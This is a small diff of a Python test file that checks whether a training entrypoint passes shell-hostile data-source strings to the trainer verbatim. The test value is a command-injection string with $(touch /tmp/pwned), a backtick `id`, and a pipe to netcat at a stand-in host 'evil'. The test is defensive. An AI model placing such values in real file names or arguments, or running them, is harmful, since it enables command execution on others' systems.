@@ -187,7 +187,8 @@ def test_cluster_name_is_deterministic_and_short_enough() -> None:
 
 
 def test_the_entrypoint_hands_hostile_strings_to_the_trainer_verbatim() -> None:
-    hostile = "s3://b/$(touch /tmp/pwned); `id` | nc evil 1 & echo ${HOME} 'q' \"d\".jsonl"
+    # A local path (an s3:// URI of these characters is refused at admission)
+    hostile = "/data/$(touch /tmp/pwned); `id` | nc evil 1 & echo ${HOME} 'q' \"d\".jsonl"
     spec = api.FSDPTrainingRunSpec.model_validate(
         {"model": {"source": "m"}, "checkpoint": {"storagePath": "s3://b/p"}, "data": {"source": hostile}}
     )
